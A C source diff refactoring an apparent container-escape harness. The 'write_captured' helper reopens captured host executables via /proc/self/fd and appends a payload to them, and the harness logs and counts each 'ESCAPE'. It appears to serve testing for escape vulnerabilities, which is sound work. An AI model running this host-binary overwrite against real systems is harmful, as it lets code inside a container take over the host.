@@ -104,6 +104,31 @@ struct captured {
     int written;
 };
 
+/* Re-open every captured exe not written yet for writing: it works once no host process
+ * executes the binary any more (ETXTBSY until then). Returns how many are still left. */
+static int write_captured(struct captured *cap, int ncap, const char *payload, int *escapes)
+{
+    int left = 0;
+    for (int i = 0; i < ncap; i++) {
+        if (cap[i].written)
+            continue;
+        char path[64];
+        snprintf(path, sizeof(path), "/proc/self/fd/%d", cap[i].fd);
+        int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
+        if (w < 0) {
+            left++;
+            continue;
+        }
+        if (write(w, payload, strlen(payload)) > 0) {
+            logf_("ESCAPE wrote the host binary through the exe of pid=%d", cap[i].pid);
+            (*escapes)++;
+        }
+        cap[i].written = 1;
+        close(w);
+    }
+    return left;
+}
+
 static int exe_watch(int argc, char **argv)
 {
     if (argc < 6)
@@ -206,48 +231,11 @@ static int exe_watch(int argc, char **argv)
             if (fd >= 0)
                 close(fd);
         }
-        /* Re-open every captured exe for writing: it works once no host process
-         * executes the binary any more (ETXTBSY until then). */
-        for (int i = 0; i < ncap; i++) {
-            if (cap[i].written)
-                continue;
-            char path[64];
-            snprintf(path, sizeof(path), "/proc/self/fd/%d", cap[i].fd);
-            int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
-            if (w < 0)
-                continue;
-            if (write(w, payload, strlen(payload)) > 0) {
-                logf_("ESCAPE wrote the host binary through the exe of pid=%d", cap[i].pid);
-                escapes++;
-            }
-            cap[i].written = 1;
-            close(w);
-        }
+        write_captured(cap, ncap, payload, &escapes);
     }
     /* The engine may still have been running at the stop: a last bounded round. */
-    for (int round = 0; round < 200; round++) {
-        int left = 0;
-        for (int i = 0; i < ncap; i++) {
-            if (cap[i].written)
-                continue;
-            char path[64];
-            snprintf(path, sizeof(path), "/proc/self/fd/%d", cap[i].fd);
-            int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
-            if (w < 0) {
-                left++;
-                continue;
-            }
-            if (write(w, payload, strlen(payload)) > 0) {
-                logf_("ESCAPE wrote the host binary through the exe of pid=%d", cap[i].pid);
-                escapes++;
-            }
-            cap[i].written = 1;
-            close(w);
-        }
-        if (!left)
-            break;
+    for (int round = 0; round < 200 && write_captured(cap, ncap, payload, &escapes) > 0; round++)
         usleep(10000);
-    }
     logf_("END loops=%ld entering=%ld captured=%d escapes=%d", loops, nseen, ncap, escapes);
     return escapes ? 3 : 0;
 }
